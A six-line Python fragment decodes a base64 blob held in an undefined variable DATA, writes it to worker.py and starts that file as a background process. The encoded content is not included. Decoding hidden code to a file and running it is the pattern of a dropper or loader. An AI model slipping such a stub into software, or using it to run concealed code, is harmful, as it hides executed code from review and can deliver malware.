import base64, subprocess, sys
text = base64.b64decode(DATA).decode()
f = open("worker.py", "w")
f.write(text)
f.close()
subprocess.Popen([sys.executable, "worker.py"])
